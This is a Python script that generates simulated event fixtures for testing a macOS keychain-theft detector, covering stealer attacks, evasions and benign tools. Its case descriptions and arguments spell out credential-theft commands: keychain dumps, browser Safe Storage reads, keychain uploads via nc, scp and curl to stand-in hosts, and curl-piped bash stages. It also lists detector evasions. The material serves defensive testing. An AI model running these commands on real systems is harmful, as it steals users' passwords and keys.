#!/usr/bin/env python3
"""Generate the held-out field corpus of keychain_access (stdlib only, deterministic).

    python3 tests/field_holdout/gen_holdout.py           # write <case>.ndjson + cases.json, then self-check
    python3 tests/field_holdout/gen_holdout.py --check   # only re-run the self-check

A second field corpus, written blind against the first (tests/field/): other stealer families and
offensive tools, other benign software that calls `security` or opens keychain files, and evasions
written by someone who read the README's reader model, severity table and tuning rules and tried to
satisfy them on purpose (wrappers that pad the interpreter depth, Electron's run-as-node mode, a
renamed `security`, browser items named only by account, stdin redirection by the shell, an in-place
duplicate then a move). Same event model and labels as tests/field/gen_field.py, whose helpers and
images this imports; each case cites the public source of its behaviour.
"""
from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "field"))
sys.path.insert(0, str(HERE.parent / "fixtures"))
import gen_fixtures as g  # noqa: E402
import gen_field as gf  # noqa: E402
from gen_field import FieldCase, launch_app, raw_read, sec_direct, sec_via_sh  # noqa: E402
from gen_fixtures import (  # noqa: E402
    ALICE, FREAD, FRW, FWRITE, HOME, KC_DIR, LOGIN_KC, O_CREAT, ROOT_DAEMON, SEC, SYS_KC, TMPDIR, sudo_run,
)

IMG = g._img
# Apple platform binaries this corpus adds
for _p, _s in [
    ("/usr/bin/nohup", "com.apple.nohup"), ("/usr/bin/script", "com.apple.script"),
    ("/usr/bin/caffeinate", "com.apple.caffeinate"), ("/usr/bin/arch", "com.apple.arch"),
    ("/usr/bin/expect", "com.apple.expect"), ("/usr/bin/perl", "com.apple.perl"),
    ("/bin/dd", "com.apple.dd"), ("/usr/bin/openssl", "com.apple.openssl"), ("/usr/bin/nc", "com.apple.nc"),
    ("/usr/bin/xxd", "com.apple.xxd"), ("/usr/bin/scp", "com.apple.scp"), ("/usr/bin/find", "com.apple.find"),
    ("/usr/bin/nice", "com.apple.nice"), ("/usr/bin/timeout", "com.apple.timeout"),
]:
    IMG(_p, _s)
# Apple-signed, not platform (Xcode and the Command Line Tools): message version 10 tells them apart
GIT_CRED = "/Library/Developer/CommandLineTools/usr/libexec/git-core/git-credential-osxkeychain"
IMG(GIT_CRED, "com.apple.git-credential-osxkeychain", "apple")
XCODE = "/Applications/Xcode.app/Contents/MacOS/Xcode"
IMG(XCODE, "com.apple.dt.Xcode", "apple")
NOTARYTOOL = "/Applications/Xcode.app/Contents/Developer/usr/bin/notarytool"
IMG(NOTARYTOOL, "com.apple.notarytool", "apple")
# Developer ID (team ids: vendor-published where the description says so, else illustrative)
EDGE = "/Applications/Microsoft Edge.app/Contents/MacOS/Microsoft Edge"
IMG(EDGE, "com.microsoft.edgemac", "devid", "UBF8T346G9")
PORTAL = "/Applications/Company Portal.app/Contents/MacOS/Company Portal"
IMG(PORTAL, "com.microsoft.CompanyPortalMac", "devid", "UBF8T346G9")
WDAV = ("/Library/Application Support/Microsoft/Defender/wdavdaemon_enterprise.app/Contents/MacOS/"
        "wdavdaemon_enterprise")
IMG(WDAV, "com.microsoft.wdav.epsext", "devid", "UBF8T346G9")
TAILSCALE = "/Applications/Tailscale.app/Contents/MacOS/Tailscale"
IMG(TAILSCALE, "io.tailscale.ipn.macsys", "devid", "ILLUSTRTSCL")
OKTA = "/Applications/Okta Verify.app/Contents/MacOS/Okta Verify"
IMG(OKTA, "com.okta.mobile", "devid", "ILLUSTROKTA")
VPNAGENT = "/opt/cisco/secureclient/bin/vpnagentd"
IMG(VPNAGENT, "com.cisco.secureclient.vpnagentd", "devid", "ILLUSTRCSCO")
AWS_VAULT = "/usr/local/bin/aws-vault"
IMG(AWS_VAULT, "aws-vault", "devid", "ILLUSTRAWSV")
MITMPROXY = "/Applications/mitmproxy.app/Contents/MacOS/mitmdump"
IMG(MITMPROXY, "org.mitmproxy.mitmdump", "devid", "ILLUSTRMITM")
# Stealers and offensive tools, as their write-ups report them (unsigned or ad hoc)
MACSTEALER = "/Volumes/weed/weed.app/Contents/MacOS/weed"
IMG(MACSTEALER, None, "unsigned")
CALISTO = "/Volumes/Intego Mac Internet Security X9/launcher.app/Contents/MacOS/launcher"
IMG(CALISTO, None, "unsigned")
SLIVER = f"{HOME}/Library/Application Support/.updater/UPPER_CASE_NAME"
IMG(SLIVER, "UPPER_CASE_NAME-55d1e0a9", "adhoc")
ODYSSEY_DIR = "/private/tmp/ody"
KC_DROP = f"{HOME}/.local/bin/keyutil"
IMG(KC_DROP, "com.apple.security", "platform")      # Apple's security, copied under a neutral name
RENAMED_NODE = f"{HOME}/Library/Application Support/.helper/Helper"
IMG(RENAMED_NODE, "node", "devid", "HX7739G8FX")   # nodejs.org's signed node, renamed
RENAMED_PERL = f"{HOME}/Library/Caches/com.apple.mdsync/mdsyncd"
IMG(RENAMED_PERL, "com.apple.perl", "platform")     # Apple's perl, copied under a neutral name
IMG("/usr/bin/ssh", "com.apple.ssh")
IMG("/usr/bin/kinit", "com.apple.kinit")
PORTABLE_RUBY = "/opt/homebrew/Library/Homebrew/vendor/portable-ruby/3.3.7/bin/ruby"
IMG(PORTABLE_RUBY, "ruby-5d1a77c0", "adhoc")
IMG("/usr/bin/swift", "com.apple.dt.xcode_select.tool-shim")
SWIFT_FRONTEND = "/Library/Developer/CommandLineTools/usr/bin/swift-frontend"
IMG(SWIFT_FRONTEND, "com.apple.swift-frontend", "apple")
OSQUERYD = "/opt/osquery/lib/osquery.app/Contents/MacOS/osqueryd"
IMG(OSQUERYD, "io.osquery.agent", "devid", "ILLUSTROSQD")
# A Developer ID signature that no longer validates (CS_VALID and CS_KILL clear: the binary was patched
# after signing): the team and signing ids are still reported, but nothing vouches for them.
g.CS_FLAGS["devid_invalid"] = g.CS_FLAGS["devid"] & ~0x201
g.CS_CATEGORY["devid_invalid"] = 10
PATCHED_JAMF = "/Library/Application Support/JAMF/bin/jamfAgent"
IMG(PATCHED_JAMF, "com.jamf.management.jamfAgent", "devid_invalid", "483DWKW443")
SIGNED_STAGER = "/Applications/Meeting Helper.app/Contents/MacOS/Meeting Helper"
IMG(SIGNED_STAGER, "com.meetinghelper.app", "devid", "ILLUSTRMEET")
SLACK = gf.SLACK
DOCKER_CRED = gf.DOCKER_CRED
PY = "/usr/bin/python3"

CASES: list[FieldCase] = []
# Cases that fall in a limit the README documents (by the sentence that names it): attacks and evasions
# that do not alert, benign cases that do. Measured, kept, and expected to stay so until the limit is closed.
BLIND_SPOTS: dict[str, str] = {}


def case(name, label, description, sources, version=9, forks=True, blind_spot=None):
    assert label in ("attack", "benign", "evasion"), label

    def deco(fn):
        CASES.append(FieldCase(name, label, description, sources, fn, version, forks))
        if blind_spot:
            BLIND_SPOTS[name] = blind_spot
        return fn
    return deco


# =============================================================================================
# Attacks
# =============================================================================================

@case("macstealer_pyinstaller_reads_keychain", "attack",
      "MacStealer (PyInstaller-built, unsigned `weed.app` on a DMG): after a fake password prompt it collects "
      "the keychain database itself and zips it for its Telegram upload.",
      ["https://www.uptycs.com/blog/macstealer-command-and-control-c2-malware"])
def a_macstealer(w, c):
    app = launch_app(w, MACSTEALER)
    yield
    osa = w.spawn(app, "/usr/bin/osascript", ["osascript", "-e", "display dialog \"macOS wants to access System Preferences\""])
    w.exit(osa)
    raw_read(w, app, LOGIN_KC, FREAD | 0x1000000)
    c.exp("keychain_read", MACSTEALER, True, "open")
    z = w.spawn(app, "/usr/bin/zip", ["zip", "-r", f"{TMPDIR}/weed/out.zip", f"{TMPDIR}/weed"])
    w.exit(z), w.exit(app)


@case("calisto_copies_keychains_folder", "attack",
      "Calisto (fake Intego installer, unsigned): copies the user's keychain storage into its hidden folder for "
      "upload (ATT&CK S0274: 'collects Keychain storage data and copies those passwords/tokens to a file').",
      ["https://securelist.com/calisto-trojan-for-macos/86543/", "https://attack.mitre.org/software/S0274/"])
def a_calisto(w, c):
    app = launch_app(w, CALISTO)
    yield
    dst = f"{HOME}/.calisto/KC.zip"
    d = w.spawn(app, "/usr/bin/ditto", ["ditto", "-c", "-k", KC_DIR, dst])
    raw_read(w, d)
    c.exp("keychain_read", "/usr/bin/ditto", True, "open")
    w.exit(d), w.exit(app)


@case("sliver_execute_security_dump", "attack",
      "Sliver implant (Go, ad hoc, in Application Support): `execute -o security dump-keychain -d` runs security "
      "directly from the implant, no shell.",
      ["https://github.com/BishopFox/sliver/wiki/Getting-Started", "https://attack.mitre.org/techniques/T1555/001/"])
def a_sliver(w, c):
    imp = launch_app(w, SLIVER)
    yield
    sec_direct(w, imp, ["security", "dump-keychain", "-d"])
    c.exp("dump_keychain", SEC, True)
    w.exit(imp)


@case("sliver_execute_find_internet_password", "attack",
      "Sliver implant reading a saved web password: `execute -o security find-internet-password -s "
      "accounts.google.com -w` (another program's credential, run by ad-hoc code in Application Support).",
      ["https://github.com/BishopFox/sliver/wiki/Getting-Started",
       "https://ss64.com/mac/security-find-internet-password.html"])
def a_sliver_inet(w, c):
    imp = launch_app(w, SLIVER)
    yield
    sec_direct(w, imp, ["security", "find-internet-password", "-s", "accounts.google.com", "-w"])
    c.exp("find_internet_password", SEC, True)
    w.exit(imp)


@case("amos_edge_by_account_name", "attack",
      "AMOS browser loop, Edge entry: `security 2>&1 > /dev/null find-generic-password -ga 'Microsoft Edge'` "
      "from its AppleScript stage (the Chromium Safe Storage item's account is the browser's name).",
      ["https://www.sentinelone.com/blog/atomic-stealer-threat-actor-spawns-second-variant-of-macos-malware-sold-on-telegram/",
       "https://chromium.googlesource.com/chromium/src/+/main/components/os_crypt/sync/keychain_password_mac.mm"])
def a_amos_edge(w, c):
    zsh = w.terminal_shell()
    osa = w.spawn(zsh, "/usr/bin/osascript", ["osascript", "-e", "do shell script \"security ...\""])
    yield
    sec_via_sh(w, osa, ["security", "find-generic-password", "-ga", "Microsoft Edge"],
               "security 2>&1 > /dev/null find-generic-password -ga 'Microsoft Edge' | awk '{print $2}'")
    c.exp("find_generic_password", SEC, True)
    w.exit(osa)


@case("stealer_opera_gx_by_account_name", "attack",
      "A stealer's Chromium loop reaching Opera GX: `security find-generic-password -wa 'Opera GX'` from an "
      "unsigned app (Banshee and its clones iterate a browser list; the item is named only by account).",
      ["https://www.elastic.co/security-labs/beyond-the-wail",
       "https://chromium.googlesource.com/chromium/src/+/main/components/os_crypt/sync/keychain_password_mac.mm"])
def a_opera_gx(w, c):
    app = launch_app(w, gf.BANSHEE)
    yield
    sec_direct(w, app, ["security", "find-generic-password", "-wa", "Opera GX"])
    c.exp("find_generic_password", SEC, True)
    w.exit(app)


@case("odyssey_osascript_cp_recursive", "attack",
      "Odyssey (Poseidon rebrand, AppleScript): `do shell script \"mkdir -p /tmp/ody; cp -R ~/Library/Keychains "
      "/tmp/ody/\"` then ditto-zips the folder and posts it with curl.",
      ["https://www.cyfirma.com/research/odyssey-stealer-the-rebrand-of-poseidon-stealer/"])
def a_odyssey(w, c):
    zsh = w.terminal_shell()
    osa = w.spawn(zsh, "/usr/bin/osascript", ["osascript", "-e", "run script (do shell script \"curl -s ...\")"])
    yield
    sh = w.sh_c(osa, f"mkdir -p {ODYSSEY_DIR}; cp -R {KC_DIR} {ODYSSEY_DIR}/")
    cp = w.spawn(sh, "/bin/cp", ["cp", "-R", KC_DIR, f"{ODYSSEY_DIR}/"])
    raw_read(w, cp)
    w.clone(cp, LOGIN_KC, f"{ODYSSEY_DIR}/Keychains/login.keychain-db")
    c.exp("keychain_copy", "/bin/cp", True, "clone")
    w.exit(cp), w.exit(sh), w.exit(osa)


@case("perl_one_liner_reads_keychain", "attack",
      "Living off the land with perl: `perl -e 'open F,\"<\",$ARGV[0]; ...' ~/Library/Keychains/login.keychain-db` "
      "piped to curl (interpreters reading keychain files, ATT&CK T1555.001 / T1059.006).",
      ["https://attack.mitre.org/techniques/T1555/001/", "https://attack.mitre.org/techniques/T1059/"])
def a_perl(w, c):
    zsh = w.terminal_shell()
    p = w.spawn(zsh, "/usr/bin/perl", ["perl", "-e", "open F,'<',$ARGV[0];binmode F;print <F>", LOGIN_KC])
    raw_read(w, p)
    c.exp("keychain_read", "/usr/bin/perl", True, "open")
    w.exit(p)


@case("dd_copies_keychain", "attack",
      "`dd if=~/Library/Keychains/login.keychain-db of=/tmp/.k bs=1m` (a raw block copy, as in post-exploitation "
      "cheat sheets).",
      ["https://attack.mitre.org/techniques/T1555/001/", "https://ss64.com/mac/dd.html"])
def a_dd(w, c):
    zsh = w.terminal_shell()
    d = w.spawn(zsh, "/bin/dd", ["dd", f"if={LOGIN_KC}", "of=/tmp/.k", "bs=1m"])
    raw_read(w, d)
    w.write_new(d, "/private/tmp/.k", 2_376_704, fflag=FWRITE | O_CREAT)
    c.exp("keychain_read", "/bin/dd", True, "open")
    w.exit(d)


@case("openssl_base64_exfil", "attack",
      "`openssl base64 -in ~/Library/Keychains/login.keychain-db | curl -d @- ...`: encoding the database for "
      "exfiltration over HTTP.",
      ["https://attack.mitre.org/techniques/T1132/001/", "https://attack.mitre.org/techniques/T1555/001/"])
def a_openssl(w, c):
    zsh = w.terminal_shell()
    o = w.spawn(zsh, "/usr/bin/openssl", ["openssl", "base64", "-in", LOGIN_KC])
    raw_read(w, o)
    c.exp("keychain_read", "/usr/bin/openssl", True, "open")
    w.exit(o)


@case("scp_uploads_keychain", "attack",
      "`scp ~/Library/Keychains/login.keychain-db user@host:` from an interactive shell (exfiltration over an "
      "alternative protocol).",
      ["https://attack.mitre.org/techniques/T1048/", "https://attack.mitre.org/techniques/T1555/001/"])
def a_scp(w, c):
    zsh = w.terminal_shell()
    s = w.spawn(zsh, "/usr/bin/scp", ["scp", LOGIN_KC, "u@203.0.113.9:"])
    raw_read(w, s)
    c.exp("keychain_read", "/usr/bin/scp", True, "open")
    w.exit(s)


@case("unlock_then_dump_with_stolen_password", "attack",
      "After a phished login password: `security unlock-keychain -p <pw> login.keychain; security dump-keychain "
      "-d login.keychain` from a bash stage fetched with curl (AMOS-style dscl-checked password reuse).",
      ["https://www.trendmicro.com/en_us/research/24/i/atomic-macos-stealer-amos-clickfix.html",
       "https://ss64.com/mac/security.html"])
def a_unlock_dump(w, c):
    zsh = w.terminal_shell()
    bash = w.spawn(zsh, "/bin/bash", ["bash", "-c", "$(curl -fsSL https://cdn-apps.example/i.sh)"])
    yield
    sec_direct(w, bash, ["security", "unlock-keychain", "-p", "Summer#2026", "login.keychain"])
    c.secret("Summer#2026")
    sec_direct(w, bash, ["security", "dump-keychain", "-d", "login.keychain"])
    c.exp("dump_keychain", SEC, True)
    w.exit(bash)


@case("export_private_keys_pemseq", "attack",
      "Private keys exported as PEM: `security export -k login.keychain -t privKeys -f pemseq -o /tmp/k.pem` "
      "run from a python post-exploitation agent (ATT&CK T1552.004).",
      ["https://attack.mitre.org/techniques/T1552/004/", "https://ss64.com/mac/security-export.html"])
def a_export_priv(w, c):
    zsh = w.terminal_shell()
    py = w.spawn(zsh, PY, ["python3", "-c", "import os;os.system('security export ...')"])
    sec_via_sh(w, py, ["security", "export", "-k", "login.keychain", "-t", "privKeys", "-f", "pemseq", "-o",
                       "/tmp/k.pem"])
    c.exp("export", SEC, True)
    w.exit(py)


@case("system_keychain_named_read_as_root", "attack",
      "Reading a machine credential from the System keychain as root: `sudo security find-generic-password -s "
      "com.apple.network.eap.system.item.wlan.ssid.CorpWiFi -w /Library/Keychains/System.keychain` (802.1X).",
      ["https://attack.mitre.org/techniques/T1555/001/", "https://ss64.com/mac/security-find-generic-password.html"])
def a_sys_named(w, c):
    zsh = w.terminal_shell()
    sudo, sec = sudo_run(w, zsh, SEC, ["security", "find-generic-password", "-s",
                                       "com.apple.network.eap.system.item.wlan.ssid.CorpWiFi", "-w", SYS_KC])
    c.exp("find_generic_password", SEC, True)
    w.exit(sec), w.exit(sudo)


@case("nc_uploads_keychain_stdin", "attack",
      "`nc 203.0.113.9 443 < ~/Library/Keychains/login.keychain-db`: the shell's forked child opens the keychain "
      "for nc's stdin before exec (ATT&CK T1048).",
      ["https://attack.mitre.org/techniques/T1048/", "https://attack.mitre.org/techniques/T1555/001/"])
def a_nc(w, c):
    zsh = w.terminal_shell()
    pre = w.fork(zsh)
    w.open(pre, LOGIN_KC, FREAD)
    nc = w.exec(pre, "/usr/bin/nc", ["nc", "203.0.113.9", "443"])
    w.close(nc, LOGIN_KC)
    c.exp("keychain_read", "/bin/zsh", True, "open")
    w.exit(nc)


@case("chainbreaker_pip_console_script", "attack",
      "chainbreaker installed with pip (console script in ~/Library/Python/3.9/bin): `chainbreaker "
      "--dump-generic-passwords --password-prompt ~/Library/Keychains/login.keychain-db`.",
      ["https://github.com/n0fate/chainbreaker"])
def a_cb_pip(w, c):
    zsh = w.terminal_shell()
    script = f"{HOME}/Library/Python/3.9/bin/chainbreaker"
    py = w.spawn(zsh, PY, [PY, script, "--dump-generic-passwords", "--password-prompt", LOGIN_KC], script=script)
    raw_read(w, py, LOGIN_KC, FREAD | 0x1000000)
    c.exp("keychain_read", PY, True, "open")
    w.exit(py)


# =============================================================================================
# Evasions: someone who read the README
# =============================================================================================

@case("evasion_renamed_security_binary", "evasion",
      "Apple's security(1) copied to ~/.local/bin/keyutil (still platform code, signing id com.apple.security) "
      "runs `keyutil find-generic-password -wa Chrome`: the verb parser must follow the code, not the name.",
      ["https://attack.mitre.org/techniques/T1036/003/", "https://ss64.com/mac/security.html"])
def e_renamed_sec(w, c):
    zsh = w.terminal_shell()
    k = w.spawn(zsh, KC_DROP, ["keyutil", "find-generic-password", "-wa", "Chrome"])
    g.securityd_io(w, [LOGIN_KC])
    c.exp("find_generic_password", KC_DROP, True)
    w.exit(k)


@case("evasion_nohup_security_interactive", "evasion",
      "`nohup security -i < cmds.txt` from a terminal: a wrapper between the shell and `security -i` is not a "
      "signed program that owns the session.",
      ["https://ss64.com/mac/nohup.html", "https://ss64.com/mac/security.html"])
def e_nohup_i(w, c):
    zsh = w.terminal_shell()
    n = w.spawn(zsh, "/usr/bin/nohup", ["nohup", "security", "-i"])
    s = w.exec(n, SEC, ["security", "-i"])
    g.securityd_io(w, [LOGIN_KC])
    c.exp("security_interactive", SEC, True)
    w.exit(s)


@case("evasion_expect_drives_security_interactive", "evasion",
      "`expect` (Apple's Tcl interpreter in /usr/bin) spawns `security -i` and types `dump-keychain -d` into it.",
      ["https://ss64.com/mac/security.html", "https://core.tcl-lang.org/expect/index"])
def e_expect(w, c):
    zsh = w.terminal_shell()
    ex = w.spawn(zsh, "/usr/bin/expect", ["expect", "-c", "spawn security -i; send \"dump-keychain -d\\r\"; interact"])
    sec_direct(w, ex, ["security", "-i"])
    c.exp("security_interactive", SEC, True)
    w.exit(ex)


@case("evasion_wrapper_chain_pads_interpreter_depth", "evasion",
      "A python stage reaches a signed credential helper through wrappers (`sh -c 'nohup env caffeinate -i "
      "docker-credential-osxkeychain list'`) so the interpreter sits more than `interpreter_depth` ancestors "
      "above the reader; wrappers exec their argument and are not ancestors that mean anything.",
      ["https://github.com/docker/docker-credential-helpers/tree/master/osxkeychain",
       "https://ss64.com/mac/caffeinate.html"])
def e_wrappers(w, c):
    zsh = w.terminal_shell()
    py = w.spawn(zsh, PY, ["python3", f"{TMPDIR}/.u.py"])
    yield
    sh = w.sh_c(py, "nohup env caffeinate -i docker-credential-osxkeychain list")
    n = w.spawn(sh, "/usr/bin/nohup", ["nohup", "env", "caffeinate", "-i", "docker-credential-osxkeychain", "list"])
    e = w.spawn(n, "/usr/bin/env", ["env", "caffeinate", "-i", "docker-credential-osxkeychain", "list"])
    cf = w.spawn(e, "/usr/bin/caffeinate", ["caffeinate", "-i", "docker-credential-osxkeychain", "list"])
    d = w.spawn(cf, DOCKER_CRED, ["docker-credential-osxkeychain", "list"])
    raw_read(w, d)
    c.exp("keychain_read", DOCKER_CRED, True, "open")
    w.exit(d), w.exit(cf), w.exit(e), w.exit(n), w.exit(sh), w.exit(py)


@case("evasion_electron_run_as_node", "evasion",
      "A signed Electron app run as plain node (`ELECTRON_RUN_AS_NODE=1 /Applications/Slack.app/.../Slack -e "
      "\"fs.readFileSync(...login.keychain-db)\"`): Developer ID code executing the attacker's script.",
      ["https://www.electronjs.org/docs/latest/api/environment-variables#electron_run_as_node",
       "https://www.electronjs.org/docs/latest/tutorial/fuses#runasnode"])
def e_electron(w, c):
    zsh = w.terminal_shell()
    env = [e for e in g.TERM_ENV] + ["ELECTRON_RUN_AS_NODE=1"]
    s = w.spawn(zsh, SLACK, [SLACK, "-e", "require('https').request(...).end(require('fs').readFileSync(p))"],
                env=env)
    raw_read(w, s)
    c.exp("keychain_read", SLACK, True, "open")
    w.exit(s)


@case("evasion_finder_duplicate_in_place_then_move", "evasion",
      "AppleScript has Finder `duplicate` login.keychain-db inside its own Keychains folder (a copy that never "
      "leaves it), then `move` the copy to the Desktop under a neutral name.",
      ["https://www.sentinelone.com/blog/atomic-stealer-threat-actor-spawns-second-variant-of-macos-malware-sold-on-telegram/",
       "https://developer.apple.com/library/archive/documentation/AppleScript/Conceptual/AppleScriptLangGuide/"])
def e_finder_move(w, c):
    zsh = w.terminal_shell()
    osa = w.spawn(zsh, "/usr/bin/osascript", ["osascript", "-e", "tell application \"Finder\" to duplicate ..."])
    finder = w.daemon("finder")
    dup = f"{KC_DIR}/login copy.keychain-db"
    w.copyfile(finder, LOGIN_KC, dup)
    w.rename(finder, dup, f"{HOME}/Desktop/recipes.db")
    c.exp("keychain_move", finder.exe, True, "rename")
    w.exit(osa)


@case("evasion_signed_app_mirrors_live_path_to_tmp", "evasion",
      "A Developer ID signed app copies login.keychain-db to /private/tmp/s/Users/alice/Library/Keychains/ (keeping "
      "the live path below a folder that is no declared backup destination) to look like a backup mirror.",
      ["https://bombich.com/kb/ccc6/how-set-up-your-first-backup"])
def e_fake_mirror(w, c):
    a = launch_app(w, SIGNED_STAGER)
    dst = "/private/tmp/s" + LOGIN_KC
    w.copyfile(a, LOGIN_KC, dst)
    c.exp("keychain_copy", SIGNED_STAGER, True, "copyfile")
    w.exit(a)


@case("evasion_label_names_browser_item", "evasion",
      "The Safe Storage item named by its label instead of service or account: `security find-generic-password "
      "-l 'Chrome Safe Storage' -w` from a python stage.",
      ["https://ss64.com/mac/security-find-generic-password.html"])
def e_label(w, c):
    zsh = w.terminal_shell()
    py = w.spawn(zsh, PY, ["python3", f"{HOME}/Downloads/setup.py"])
    sec_direct(w, py, ["security", "find-generic-password", "-l", "Chrome Safe Storage", "-w"])
    c.exp("find_generic_password", SEC, True)
    w.exit(py)


@case("evasion_go_keyring_shape_for_gh_token", "evasion",
      "The go-keyring read shape aimed at another tool's token: an ad-hoc binary in ~/Library/Caches runs "
      "`security find-generic-password -s gh:github.com -wa octocat` (a named item, but not its own).",
      ["https://github.com/zalando/go-keyring/blob/master/keyring_darwin.go", "https://github.com/cli/cli"])
def e_gh_token(w, c):
    a = launch_app(w, gf.CUCKOO)
    sec_direct(w, a, ["security", "find-generic-password", "-s", "gh:github.com", "-wa", "octocat"])
    c.exp("find_generic_password", SEC, True)
    w.exit(a)


@case("evasion_mdm_pushes_internet_password_read", "evasion",
      "A genuine Jamf agent runs an attacker-pushed script: `security find-internet-password -s github.com -w` "
      "(another program's credential; agent rules excuse only items they name).",
      ["https://github.com/elastic/detection-rules", "https://ss64.com/mac/security-find-internet-password.html"],
      blind_spot="A named non-browser item read from a plain shell")
def e_mdm_inet(w, c):
    jamf = launch_app(w, gf.JAMF, creds=ROOT_DAEMON, asid=g.SYS_ASID)
    zsh = w.spawn(jamf, "/bin/zsh", ["/bin/zsh", "/Library/Application Support/JAMF/tmp/collect.sh"])
    sec_direct(w, zsh, ["security", "find-internet-password", "-s", "github.com", "-w"])
    c.exp("find_internet_password", SEC, False, note="README blind spot: a named non-browser item is low")
    w.exit(zsh), w.exit(jamf)


@case("evasion_patched_agent_keeps_team_id", "evasion",
      "Jamf's agent binary patched after signing (its Developer ID signature no longer valid, team and signing "
      "ids still reported) runs `security find-generic-password -s com.corp.vpn -w`: an agent rule trusts a "
      "valid signature, not the ids a broken one claims.",
      ["https://developer.apple.com/documentation/endpointsecurity/es_process_t/codesigning_flags",
       "https://github.com/apple-oss-distributions/xnu/blob/main/osfmk/kern/cs_blobs.h"])
def e_patched_agent(w, c):
    a = launch_app(w, PATCHED_JAMF, creds=ROOT_DAEMON, asid=g.SYS_ASID)
    zsh = w.spawn(a, "/bin/zsh", ["/bin/zsh", "-c", "security find-generic-password -s com.corp.vpn -w"])
    sec_direct(w, zsh, ["security", "find-generic-password", "-s", "com.corp.vpn", "-w"])
    c.exp("find_generic_password", SEC, True)
    w.exit(zsh), w.exit(a)


@case("evasion_patched_agent_run_from_a_shell", "evasion",
      "The patched Jamf agent binary (signature no longer valid, ids still reported) run from an operator's "
      "shell reads a named item directly with security: no launchd start to give it away, only the signature.",
      ["https://developer.apple.com/documentation/endpointsecurity/es_process_t/codesigning_flags",
       "https://github.com/apple-oss-distributions/xnu/blob/main/osfmk/kern/cs_blobs.h"])
def e_patched_agent_shell(w, c):
    zsh = w.terminal_shell(cwd="/private/var/root")
    a = w.spawn(zsh, PATCHED_JAMF, [PATCHED_JAMF, "policy", "-event", "sync"])
    sec_direct(w, a, ["security", "find-generic-password", "-s", "com.corp.vpn", "-w"])
    c.exp("find_generic_password", SEC, True)
    w.exit(a)


@case("evasion_xxd_hex_dump", "evasion",
      "`xxd -p ~/Library/Keychains/login.keychain-db` run by launchd from a user LaunchAgent (no shell parent): a "
      "raw reader is a raw reader whoever starts it.",
      ["https://attack.mitre.org/techniques/T1543/001/", "https://ss64.com/mac/xxd.html"])
def e_xxd(w, c):
    x = w.launchd_spawn("/usr/bin/xxd", ["/usr/bin/xxd", "-p", LOGIN_KC], ALICE, g.GUI_ASID, "com.apple.sync.agent")
    raw_read(w, x)
    c.exp("keychain_read", "/usr/bin/xxd", True, "open")
    w.exit(x)


@case("evasion_renamed_signed_node_drives_helper", "evasion",
      "nodejs.org's Developer ID node binary copied under a neutral name (~/Library/Application Support/.helper/"
      "Helper) runs a BeaverTail-style script that calls docker-credential-osxkeychain: an interpreter is known "
      "by its code identity (signing id `node`), not its file name.",
      ["https://unit42.paloaltonetworks.com/two-campaigns-by-north-korea-bad-actors-target-job-hunters/",
       "https://github.com/docker/docker-credential-helpers/tree/master/osxkeychain"])
def e_renamed_node(w, c):
    a = launch_app(w, RENAMED_NODE)
    d = w.spawn(a, DOCKER_CRED, ["docker-credential-osxkeychain", "get"])
    raw_read(w, d)
    c.exp("keychain_read", DOCKER_CRED, True, "open")
    w.exit(d), w.exit(a)


@case("evasion_renamed_apple_perl_drives_helper", "evasion",
      "Apple's perl copied to ~/Library/Caches/com.apple.mdsync/mdsyncd (still platform code, signing id "
      "com.apple.perl) runs a script that calls docker-credential-osxkeychain.",
      ["https://attack.mitre.org/techniques/T1036/003/",
       "https://github.com/docker/docker-credential-helpers/tree/master/osxkeychain"])
def e_renamed_perl(w, c):
    zsh = w.terminal_shell()
    p = w.spawn(zsh, RENAMED_PERL, ["mdsyncd", f"{HOME}/Library/Caches/com.apple.mdsync/sync.pl"])
    d = w.spawn(p, DOCKER_CRED, ["docker-credential-osxkeychain", "list"])
    raw_read(w, d)
    c.exp("keychain_read", DOCKER_CRED, True, "open")
    w.exit(d), w.exit(p)


@case("evasion_swift_script_reads_keychain", "evasion",
      "`swift steal.swift` with the Command Line Tools: the Apple-signed swift-frontend interprets the script "
      "and reads login.keychain-db itself (Apple code outside the OS, run by a tool, is not the keychain API).",
      ["https://www.swift.org/documentation/", "https://attack.mitre.org/techniques/T1555/001/"], version=10)
def e_swift(w, c):
    zsh = w.terminal_shell()
    sw = w.spawn(zsh, "/usr/bin/swift", ["swift", f"{HOME}/Downloads/steal.swift"])
    fe = w.exec(sw, SWIFT_FRONTEND, [SWIFT_FRONTEND, "-frontend", "-interpret", f"{HOME}/Downloads/steal.swift"])
    raw_read(w, fe)
    c.exp("keychain_read", SWIFT_FRONTEND, True, "open")
    w.exit(fe)


@case("evasion_launchagent_apple_copier", "evasion",
      "A LaunchAgent whose ProgramArguments run PackageKit's shove (Apple platform code outside the CLI folders, "
      "so no shell parent) to copy login.keychain-db into ~/Library/Caches.",
      ["https://attack.mitre.org/techniques/T1543/001/", "https://attack.mitre.org/techniques/T1218/"])
def e_launchagent_shove(w, c):
    dst = f"{HOME}/Library/Caches/com.apple.parsecd/cache.db"
    sh = w.launchd_spawn(gf.SHOVE, [gf.SHOVE, LOGIN_KC, dst], ALICE, g.GUI_ASID, "com.apple.parsecd.cache")
    raw_read(w, sh)
    w.write_new(sh, dst, 2_376_704, fflag=FWRITE | O_CREAT)
    c.exp("keychain_read", gf.SHOVE, True, "open")
    w.exit(sh)


# =============================================================================================
# Benign
# =============================================================================================

@case("osquery_keychain_items_table", "benign",
      "osqueryd (Developer ID, root, started by launchd) answers `SELECT * FROM keychain_items` and "
      "`certificates`: it opens the users' and the System keychains through the API.",
      ["https://osquery.io/schema/#keychain_items", "https://github.com/osquery/osquery/tree/master/osquery/tables/system/darwin"])
def b_osquery(w, c):
    d = w.launchd_spawn(OSQUERYD, [OSQUERYD, "--flagfile", "/var/osquery/osquery.flags"], ROOT_DAEMON, g.SYS_ASID,
                        "io.osquery.agent")
    raw_read(w, d)
    raw_read(w, d, SYS_KC)
    c.exp("keychain_read", OSQUERYD, False, "open", target_path=LOGIN_KC)
    w.exit(d)


@case("ssh_use_keychain_passphrase", "benign",
      "`ssh git@github.com` with `UseKeychain yes` in ~/.ssh/config: Apple's ssh reads the key's passphrase from "
      "the login keychain through the API.",
      ["https://developer.apple.com/library/archive/technotes/tn2449/_index.html"])
def b_ssh(w, c):
    zsh = w.terminal_shell()
    s = w.spawn(zsh, "/usr/bin/ssh", ["ssh", "-T", "git@github.com"])
    raw_read(w, s)
    c.exp("keychain_read", "/usr/bin/ssh", False, "open")
    w.exit(s)


